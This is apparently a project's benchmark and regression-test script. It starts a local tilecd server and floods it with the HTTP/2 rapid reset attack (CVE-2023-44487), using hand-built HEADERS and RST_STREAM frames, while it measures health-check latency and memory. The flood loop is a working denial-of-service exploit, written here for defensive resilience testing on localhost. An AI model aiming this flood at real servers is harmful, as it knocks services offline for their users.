#!/usr/bin/env python3
"""HTTP/2 rapid reset (CVE-2023-44487) against a real tilecd.

Starts tilecd (with the flags given after --), then floods it from
--connections processes, each on its own connection, with HEADERS followed at
once by RST_STREAM(CANCEL), as fast as the socket takes them, with no
authentication. Meanwhile it asks for health with the tilec CLI every 0.25 s
and reads tilecd's RSS. Prints one JSON line: health answered / asked, the
slowest health answer, RSS before, at its peak, and 5 s after the flood.

No HTTP/2 library: the frames are written by hand (RFC 9113), the header
block as HPACK literals (RFC 7541) without Huffman coding.

  benchmarks/h2_rapid_reset.py --build build --connections 12 --seconds 20
  benchmarks/h2_rapid_reset.py --build build -- --max_streams=0 --max_memory_mb=0
  benchmarks/h2_rapid_reset.py --build build --proxy deploy/haproxy/tilecd.cfg

With --proxy, HAProxy runs with that configuration in front of tilecd, and
the flood and the health checks go through it.
"""

import argparse
import json
import multiprocessing
import os
import socket
import struct
import subprocess
import sys
import threading
import time

from bench_tilecd import start_tilecd

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream & 0x7FFFFFFF) + payload


def hpack_string(s):
    b = s.encode()
    assert len(b) < 127
    return bytes([len(b)]) + b


def header_block(authority, path):
    return (b"\x83"  # :method POST (static 3)
            + b"\x86"  # :scheme http (static 6)
            + b"\x04" + hpack_string(path)  # :path, literal, indexed name 4
            + b"\x01" + hpack_string(authority)  # :authority, indexed name 1
            + b"\x0f\x10" + hpack_string("application/grpc")  # content-type (31)
            + b"\x00" + hpack_string("te") + hpack_string("trailers"))


def flood(port, seconds, counter, source):
    """One connection (reopened when the server closes it) of HEADERS+RST."""
    block = header_block("127.0.0.1:%d" % port, "/grpc.health.v1.Health/Check")
    end = time.time() + seconds
    sent = 0
    while time.time() < end:
        try:
            sock = socket.create_connection(("127.0.0.1", port), timeout=5,
                                            source_address=(source, 0))
        except OSError:
            time.sleep(0.05)
            continue
        lock = threading.Lock()
        alive = [True]

        def reader():
            buf = b""
            while alive[0]:
                try:
                    chunk = sock.recv(1 << 16)
                except OSError:
                    break
                if not chunk:
                    break
                buf += chunk
                while len(buf) >= 9:
                    n = int.from_bytes(buf[:3], "big")
                    if len(buf) < 9 + n:
                        break
                    kind, flags = buf[3], buf[4]
                    payload = buf[9:9 + n]
                    buf = buf[9 + n:]
                    reply = None
                    if kind == SETTINGS and not flags & ACK:
                        reply = frame(SETTINGS, ACK, 0)
                    elif kind == PING and not flags & ACK:
                        reply = frame(PING, ACK, 0, payload)
                    if reply:
                        with lock:
                            try:
                                sock.sendall(reply)
                            except OSError:
                                return
            alive[0] = False

        t = threading.Thread(target=reader, daemon=True)
        try:
            sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
            t.start()
            stream = 1
            while alive[0] and time.time() < end:
                batch = bytearray()
                for _ in range(64):
                    batch += frame(HEADERS, END_HEADERS, stream, block)
                    batch += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                    stream += 2
                with lock:
                    sock.sendall(batch)
                sent += 64
                if stream > 0x7FFFFF00:
                    break
        except OSError:
            pass
        alive[0] = False
        sock.close()
    with counter.get_lock():
        counter.value += sent


def rss_kb(pid):
    try:
        with open("/proc/%d/status" % pid) as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        pass
    return -1


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--build", default="build")
    ap.add_argument("--connections", type=int, default=12)
    ap.add_argument("--seconds", type=float, default=20)
    ap.add_argument("--proxy", default="", help="an HAProxy configuration to put in front")
    ap.add_argument("--haproxy", default="haproxy", help="the haproxy binary")
    ap.add_argument("--expect-healthy", action="store_true",
                    help="exit 1 unless every health check was answered within 1 s and "
                    "tilecd's RSS grew by less than 100 MB (a regression test)")
    ap.add_argument("--attacker", default="127.0.0.2",
                    help="source address of the flood (the health checks come from 127.0.0.1)")
    ap.add_argument("tilecd_flags", nargs="*")
    args = ap.parse_args()
    tilec = os.path.join(args.build, "client", "tilec")
    server, port = start_tilecd(args.build, args.tilecd_flags, "h2flood")
    proxy = None
    if args.proxy:
        s = socket.socket()
        s.bind(("127.0.0.1", 0))
        front = s.getsockname()[1]
        s.close()
        env = dict(os.environ, TILEC_PROXY_BIND="127.0.0.1:%d" % front,
                   TILECD_ADDRESS="127.0.0.1:%d" % port)
        proxy = subprocess.Popen([args.haproxy, "-db", "-f", args.proxy], env=env,
                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(1)
        port = front
    address = "127.0.0.1:%d" % port

    def health():
        t0 = time.time()
        r = subprocess.run([tilec, "health", "--server", address, "--timeout_s", "5"],
                           capture_output=True, text=True)
        return r.returncode == 0 and r.stdout.strip() == "SERVING", time.time() - t0

    ok, _ = health()
    rss_before = rss_kb(server.pid)
    counter = multiprocessing.Value("q", 0)
    procs = [multiprocessing.Process(target=flood,
                                     args=(port, args.seconds, counter, args.attacker))
             for _ in range(args.connections)]
    for p in procs:
        p.start()
    asked = answered = 0
    slowest = 0.0
    rss_peak = rss_before
    proxy_peak = rss_kb(proxy.pid) if proxy else 0
    t_end = time.time() + args.seconds
    while time.time() < t_end:
        good, took = health()
        asked += 1
        answered += good
        slowest = max(slowest, took)
        rss_peak = max(rss_peak, rss_kb(server.pid))
        if proxy:
            proxy_peak = max(proxy_peak, rss_kb(proxy.pid))
        time.sleep(0.25)
    for p in procs:
        p.join()
    time.sleep(5)
    after_ok, after_took = health()
    rss_after = rss_kb(server.pid)
    alive = server.poll() is None
    if proxy:
        proxy.terminate()
        proxy.wait()
    server.terminate()
    try:
        server.wait(timeout=20)
    except subprocess.TimeoutExpired:
        server.kill()
    result = {
        "tilecd_flags": args.tilecd_flags,
        "proxy": args.proxy,
        "connections": args.connections,
        "attacker": args.attacker,
        "seconds": args.seconds,
        "streams_reset": counter.value,
        "health_before": ok,
        "health_answered": answered,
        "health_asked": asked,
        "health_slowest_s": round(slowest, 3),
        "health_after": after_ok,
        "health_after_s": round(after_took, 3),
        "rss_mb_before": round(rss_before / 1024, 1),
        "rss_mb_peak": round(rss_peak / 1024, 1),
        "rss_mb_after": round(rss_after / 1024, 1),
        "tilecd_alive": alive,
        "proxy_rss_mb_peak": round(proxy_peak / 1024, 1),
    }
    print(json.dumps(result))
    if args.expect_healthy:
        healthy = (ok and answered == asked and slowest < 1.0 and after_ok and
                   rss_peak - rss_before < 100 * 1024)
        return 0 if healthy else 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
